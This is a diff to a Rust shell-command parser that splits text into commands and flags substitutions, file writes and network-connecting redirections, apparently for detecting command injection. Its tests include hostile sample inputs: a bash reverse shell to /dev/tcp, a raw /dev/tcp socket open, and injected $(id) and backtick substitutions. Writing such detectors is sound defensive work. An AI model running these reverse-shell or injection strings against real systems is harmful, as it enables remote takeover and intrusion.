@@ -2,6 +2,8 @@
 
 /// Most commands of a text that are looked at.
 const MAX_COMMANDS: usize = 64;
+/// Most substitutions within one another that are looked into.
+const MAX_DEPTH: u8 = 8;
 
 /// One simple command.
 #[derive(Clone, Debug, Default, PartialEq, Eq)]
@@ -19,18 +21,16 @@ pub struct Script {
     pub commands: Vec<Command>,
     /// Where a character stands that means something to the shell, and ends or begins a command.
     pub joints: Vec<usize>,
-    /// Whether commands stand in it for what they print, or side by side, or one after the other whatever
-    /// became of the first; or output goes to a file.
-    pub elaborate: bool,
+    /// Whether the output of something goes to a file.
+    pub writes: bool,
+    /// Whether a redirection opens a connection (Bash manual, 3.6).
+    pub connects: bool,
 }
 
 impl Script {
     /// Takes a text apart.
     pub fn of(text: &str) -> Self {
-        let mut reader = Reader { text, ..Reader::default() };
-        reader.read();
-        reader.end_command();
-        reader.script
+        Reader::read_all(text, 0)
     }
 
     /// The programs that it runs, as far as their names stand there.
@@ -59,9 +59,18 @@ struct Reader<'a> {
     script: Script,
     command: Command,
     word: Option<(usize, String)>,
+    /// How many substitutions it stands in.
+    depth: u8,
 }
 
 impl Reader<'_> {
+    fn read_all(text: &str, depth: u8) -> Script {
+        let mut reader = Reader { text, depth, ..Reader::default() };
+        reader.read();
+        reader.end_command();
+        reader.script
+    }
+
     fn read(&mut self) {
         let bytes = self.text.as_bytes();
         while let Some(&byte) = bytes.get(self.at) {
@@ -80,15 +89,15 @@ impl Reader<'_> {
                     self.at = self.text[self.at..].find('\n').map_or(self.text.len(), |n| self.at + n);
                 }
                 b'<' | b'>' => self.redirection(),
-                b';' | b'\n' | b'(' | b')' | b'`' => self.joint(1, true),
-                b'&' if bytes.get(self.at + 1) == Some(&b'&') => self.joint(2, false),
+                b';' | b'\n' | b'(' | b')' | b'`' => self.joint(1),
+                b'&' if bytes.get(self.at + 1) == Some(&b'&') => self.joint(2),
                 b'&' if bytes.get(self.at + 1) == Some(&b'>') => {
                     self.at += 1;
                     self.redirection();
                 }
-                b'&' => self.joint(1, true),
-                b'|' => self.joint(if bytes.get(self.at + 1) == Some(&b'|') { 2 } else { 1 }, false),
-                b'$' if bytes.get(self.at + 1) == Some(&b'(') => self.joint(2, true),
+                b'&' => self.joint(1),
+                b'|' => self.joint(if bytes.get(self.at + 1) == Some(&b'|') { 2 } else { 1 }),
+                b'$' if bytes.get(self.at + 1) == Some(&b'(') => self.joint(2),
                 _ => self.plain(),
             }
         }
@@ -122,18 +131,36 @@ impl Reader<'_> {
                     return;
                 }
                 '\\' => self.escape(),
-                // What they print becomes part of the word.
-                '`' => {
-                    self.note(self.at);
-                    self.at += 1;
-                }
-                '$' if self.text[self.at..].starts_with("$(") => {
-                    self.note(self.at);
-                    self.at += 2;
-                }
+                '`' => self.substitution(1),
+                '$' if self.text[self.at..].starts_with("$(") => self.substitution(2),
                 _ => self.plain(),
             }
         }
+    }
+
+    /// `$(...)` or `` `...` `` between quotes: what its commands print becomes part of the word.
+    fn substitution(&mut self, opening: usize) {
+        let begin = self.at;
+        let inner = &self.text[begin + opening..];
+        let mut open = 1;
+        let end = inner.find(|c| {
+            open += i32::from(c == '(' && opening == 2);
+            open -= i32::from(if opening == 2 { c == ')' } else { c == '`' });
+            open == 0
+        });
+        let end = end.unwrap_or(inner.len());
+        self.script.joints.push(begin);
+        if self.depth < MAX_DEPTH {
+            let within = Self::read_all(&inner[..end], self.depth + 1);
+            let moved = |command: Command| Command { at: command.at + begin + opening, ..command };
+            let room = MAX_COMMANDS.saturating_sub(self.script.commands.len());
+            self.script.commands.extend(within.commands.into_iter().take(room).map(moved));
+            self.script.joints.extend(within.joints.iter().map(|at| at + begin + opening));
+            self.script.writes |= within.writes;
+            self.script.connects |= within.connects;
+        }
+        self.at = (begin + opening + end + 1).min(self.text.len());
+        self.word.get_or_insert((begin, String::new())).1.push_str(&self.text[begin..self.at]);
     }
 
     fn escape(&mut self) {
@@ -156,26 +183,19 @@ impl Reader<'_> {
         let descriptor =
             rest[..signs].ends_with('&') && target.bytes().all(|b| b.is_ascii_digit() || b == b'-');
         if !matches!(target, "/dev/null" | "/dev/stdout" | "/dev/stderr") && !descriptor {
-            self.note(self.at);
+            self.script.joints.push(self.at);
+            self.script.writes |= rest[..signs].contains('>');
+            self.script.connects |= target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/");
         }
         self.at = self.text.len() - behind.len() + end;
     }
 
-    fn joint(&mut self, len: usize, elaborate: bool) {
+    fn joint(&mut self, len: usize) {
         self.end_word();
         let begin = self.at;
         self.at += len;
         self.end_command();
-        // The last separator ends what was, and begins nothing.
-        if elaborate && !self.text[self.at..].trim().is_empty() {
-            self.script.elaborate = true;
-        }
         self.script.joints.push(begin);
-    }
-
-    fn note(&mut self, at: usize) {
-        self.script.elaborate = true;
-        self.script.joints.push(at);
     }
 
     fn end_word(&mut self) {
@@ -209,47 +229,63 @@ mod tests {
 
     #[test]
     fn commands() {
-        let cases: &[(&str, &[&str], bool)] = &[
-            (
-                "convert 'a b.png' -resize 10x10 \"c;d.png\"",
-                &["convert a b.png -resize 10x10 c;d.png"],
-                false,
-            ),
-            ("/usr/sbin/sendmail -t -i", &["/usr/sbin/sendmail -t -i"], false),
-            ("ffmpeg -i a b 2>&1", &["ffmpeg -i a b"], false),
-            ("df -h >/dev/null 2> /dev/null", &["df -h"], false),
-            ("cd /repo && git pull", &["cd /repo", "git pull"], false),
-            ("ps aux | grep x", &["ps aux", "grep x"], false),
-            ("A=1 make;", &["make"], false),
-            ("exec 'git' 'log'", &["git log"], false),
-            ("ping 1.1.1.1; id", &["ping 1.1.1.1", "id"], true),
-            ("ping `id`", &["ping", "id"], true),
-            ("ping $(id)", &["ping", "id"], true),
-            ("echo \"$(id)\"", &["echo id)"], true),
-            ("echo '$(id)'", &["echo $(id)"], false),
-            ("id > /tmp/x", &["id"], true),
-            ("bash -i >& /dev/tcp/h/1 0>&1", &["bash -i"], true),
-            ("a\nb", &["a", "b"], true),
-            ("sleep 1 & id", &["sleep 1", "id"], true),
-            ("echo \\; id", &["echo ; id"], false),
-            ("id # comment; x", &["id"], false),
-            ("'unended", &["unended"], false),
-            ("", &[], false),
+        let cases: &[(&str, &[&str])] = &[
+            ("convert 'a b.png' -resize 10x10 \"c;d.png\"", &["convert a b.png -resize 10x10 c;d.png"]),
+            ("/usr/sbin/sendmail -t -i", &["/usr/sbin/sendmail -t -i"]),
+            ("ffmpeg -i a b 2>&1", &["ffmpeg -i a b"]),
+            ("df -h >/dev/null 2> /dev/null", &["df -h"]),
+            ("cd /repo && git pull", &["cd /repo", "git pull"]),
+            ("ps aux | grep x", &["ps aux", "grep x"]),
+            ("A=1 make;", &["make"]),
+            ("exec 'git' 'log'", &["git log"]),
+            ("ping 1.1.1.1; id", &["ping 1.1.1.1", "id"]),
+            ("ping `id`", &["ping", "id"]),
+            ("ping $(id)", &["ping", "id"]),
+            ("echo \"a $(id) `who`\" b", &["id", "who", "echo a $(id) `who` b"]),
+            ("echo \"$(echo \"$(id)\")\"", &["id", "echo $(id)", "echo $(echo \"$(id)\")"]),
+            ("echo '$(id)'", &["echo $(id)"]),
+            ("bash -i >& /dev/tcp/h/1 0>&1", &["bash -i"]),
+            ("a\nb", &["a", "b"]),
+            ("sleep 1 & w\\ho''ami", &["sleep 1", "whoami"]),
+            ("echo \\; id", &["echo ; id"]),
+            ("id # comment; x", &["id"]),
+            ("'unended", &["unended"]),
+            ("\"$(unended", &["unended", "$(unended"]),
+            ("", &[]),
         ];
-        for (text, expected, elaborate) in cases {
-            let script = Script::of(text);
+        for (text, expected) in cases {
             assert_eq!(programs(text), *expected, "{text}");
-            assert_eq!(script.elaborate, *elaborate, "{text}");
+        }
+    }
+
+    #[test]
+    fn where_its_output_goes() {
+        let cases = [
+            ("id > /tmp/x", (true, false)),
+            ("echo \"$(id > /tmp/x)\"", (true, false)),
+            ("x >> log 2>&1", (true, false)),
+            ("x < in", (false, false)),
+            ("x >/dev/null 2>&1", (false, false)),
+            ("bash -i >& /dev/tcp/h/1 0>&1", (true, true)),
+            ("exec 5<>/dev/tcp/h/1", (true, true)),
+            ("x 2>&1 | y", (false, false)),
+        ];
+        for (text, expected) in cases {
+            let script = Script::of(text);
+            assert_eq!((script.writes, script.connects), expected, "{text}");
         }
     }
 
     #[test]
     fn any_text_is_read_to_its_end() {
-        for text in ["\\", "\"\\", "$(", "`", "'", "2>", "&>", ">&", "é'é\"é\\é", "<<<", "&&||;;"] {
+        for text in
+            ["\\", "\"\\", "$(", "`", "'", "2>", "&>", ">&", "é'é\"é\\é", "<<<", "&&||;;", "\"$(`\"$(é"]
+        {
             for end in (0..=text.len()).filter(|end| text.is_char_boundary(*end)) {
                 Script::of(&text[..end]);
             }
         }
         assert!(Script::of(&";a".repeat(10_000)).commands.len() <= MAX_COMMANDS);
+        assert!(Script::of(&"\"$(".repeat(10_000)).commands.len() <= MAX_COMMANDS);
     }
 }
